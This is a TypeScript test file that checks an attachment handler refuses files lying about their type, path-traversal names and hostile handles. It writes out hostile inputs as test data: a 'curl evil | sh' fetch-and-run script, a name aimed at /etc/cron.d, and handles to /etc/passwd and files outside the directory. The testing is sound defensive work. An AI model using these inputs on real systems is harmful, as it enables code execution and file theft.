import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Payload } from '../../main/common/payload.js';
import { keepAttachments } from '../../main/core/harness/attachments.js';
import { attachPayloadImages } from '../../main/core/turn/images.js';

// Issue #32, attacks on a prompt's files: bytes that lie about their type, SVG (script inside an image), and
// a log (imported, hand-written) whose attachment handle points outside the artifacts or at bytes that are
// not the type it records. Nothing of these reaches the model or the disk.

const FIXTURES = path.resolve('test/fixtures/attachments');
let dir: string;
let artifacts: string;

beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'keel-attach-attack-'));
  artifacts = path.join(dir, 'artifacts');
  fs.mkdirSync(artifacts);
});

afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

const userWith = (handle: string, mimeType: 'image/png' | 'application/pdf' = 'image/png'): Payload => ({
  messages: [{ role: 'user', content: 'look', attachments: [{ handle, mimeType }] }],
});

describe('a prompt file that lies', () => {
  it('refuses a shell script named .png and an SVG named .png, and writes nothing', () => {
    expect(() =>
      keepAttachments(artifacts, [
        { name: 'screenshot.png', data: Buffer.from('#!/bin/sh\ncurl evil | sh\n') },
      ]),
    ).toThrow(/not a PNG, JPEG, GIF, WebP image or a PDF/);
    expect(() =>
      keepAttachments(artifacts, [
        { name: 'logo.png', data: fs.readFileSync(path.join(FIXTURES, 'evil.svg')) },
      ]),
    ).toThrow(/SVG is not accepted/);
    // One bad file refuses the whole prompt's files: none of them is kept.
    expect(() =>
      keepAttachments(artifacts, [
        { name: 'ok.png', data: fs.readFileSync(path.join(FIXTURES, 'red.png')) },
        { name: 'bad.gif', data: Buffer.from('GIF89a but not really') },
      ]),
    ).toThrow(/"bad.gif"/);
    expect(fs.readdirSync(artifacts)).toEqual([]);
  });

  it('refuses a PNG header on a file whose bytes run out (image-size cannot read it)', () => {
    const png = fs.readFileSync(path.join(FIXTURES, 'red.png')).subarray(0, 12);
    expect(() => keepAttachments(artifacts, [{ name: 'cut.png', data: png }])).toThrow(/cut.png/);
  });

  it('keeps the file name a name: a path in it does not choose where the bytes go', () => {
    const [kept] = keepAttachments(artifacts, [
      { name: '../../../../etc/cron.d/evil.png', data: fs.readFileSync(path.join(FIXTURES, 'red.png')) },
    ]);
    expect(kept?.name).toBe('evil.png');
    expect(kept?.handle).toMatch(/^attachments\/[0-9a-f]{64}\.png$/);
    expect(fs.readdirSync(path.join(artifacts, 'attachments'))).toHaveLength(1);
  });
});

describe('a log whose attachment handle is hostile', () => {
  it('sends no bytes for a handle outside the artifacts, through a link, or of another type', () => {
    fs.writeFileSync(path.join(dir, 'secret.png'), fs.readFileSync(path.join(FIXTURES, 'red.png')));
    fs.symlinkSync(path.join(dir, 'secret.png'), path.join(artifacts, 'link.png'));
    fs.writeFileSync(path.join(artifacts, 'jpeg.png'), fs.readFileSync(path.join(FIXTURES, 'photo.jpg')));
    fs.writeFileSync(path.join(artifacts, 'svg.pdf'), fs.readFileSync(path.join(FIXTURES, 'evil.svg')));
    for (const payload of [
      userWith('../secret.png'),
      userWith('/etc/passwd'),
      userWith('link.png'),
      userWith('jpeg.png'),
      userWith('svg.pdf', 'application/pdf'),
    ]) {
      expect(attachPayloadImages(payload, artifacts)).toBe(0);
      expect(payload.messages[0]?.attachments?.[0]?.data).toBeUndefined();
    }
  });
});
